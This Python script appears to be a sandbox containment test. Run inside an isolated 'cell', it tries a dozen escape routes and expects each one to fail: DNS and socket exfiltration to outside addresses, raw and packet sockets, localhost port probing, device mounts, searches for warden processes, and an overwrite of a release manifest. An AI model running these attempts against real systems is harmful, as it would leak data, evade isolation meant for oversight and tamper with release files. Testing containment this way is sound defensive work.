"""What somebody tries who wants out of a cell with the data. It runs inside, as a researcher's script, and prints what came of each attempt.
Every one of them has to fail; the story counts them, and looks for them in the ledger.
"""

import ctypes
import json
import os
import pathlib
import socket

tried = {}


def attempt(name, how):
    try:
        got = how()
        tried[name] = f"OUT: {got}"
    except Exception as e:  # whatever stops it, as long as it is stopped
        tried[name] = f"{type(e).__name__}: {e}"[:120]


def dns():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    s.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x07example\x03org\x00\x00\x01\x00\x01", ("9.9.9.9", 53))
    return s.recv(512)


def lookup():
    return socket.getaddrinfo("secret.example.org", 443)


def tcp():
    return socket.create_connection(("93.184.216.34", 443), timeout=1)


def udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    s.sendto(b"data", ("93.184.216.34", 9999))
    return s.recv(1)


def ipv6():
    s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    s.settimeout(1)
    s.connect(("2606:4700:4700::1111", 443))
    return s


def icmp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    s.settimeout(1)
    s.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", ("9.9.9.9", 0))
    return s.recv(64)


def raw():
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)


def packet():
    return socket.socket(socket.AF_PACKET, socket.SOCK_RAW)


def the_house():
    for port in (8443, 8444, 2575, 1883, 22):
        try:
            return socket.create_connection(("127.0.0.1", port), timeout=1).getpeername()
        except OSError:
            continue
    raise OSError("nothing of the machine listens in here")


def mount():
    libc = ctypes.CDLL(None, use_errno=True)
    os.makedirs("/tmp/disk", exist_ok=True)
    for device in ("/dev/sda1", "/dev/vda", "/dev/loop0", "tmpfs"):
        if libc.mount(device.encode(), b"/tmp/disk", b"tmpfs" if device == "tmpfs" else b"ext4", 0, None) == 0:
            return device
    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def neighbours():
    mine = [p for p in pathlib.Path("/proc").iterdir() if p.name.isdigit()]
    others = [p for p in mine if b"cloister-warden" in (p / "cmdline").read_bytes() or b"cloisterd" in (p / "cmdline").read_bytes()]
    if others:
        return others
    for path in ("/srv", "/var/lib/cloister", "/root", "/home"):
        for entry in pathlib.Path(path).iterdir() if pathlib.Path(path).is_dir() else ():
            if entry.name not in ("researcher",):
                return entry
    raise OSError("nobody else is to be seen")


def change_the_release():
    return pathlib.Path("/release/manifest.json").write_text("{}")


for way in (dns, lookup, tcp, udp, ipv6, icmp, raw, packet, the_house, mount, neighbours, change_the_release):
    attempt(way.__name__, way)
pathlib.Path("tried.json").write_text(json.dumps(tried, indent=1))
print(json.dumps(tried))
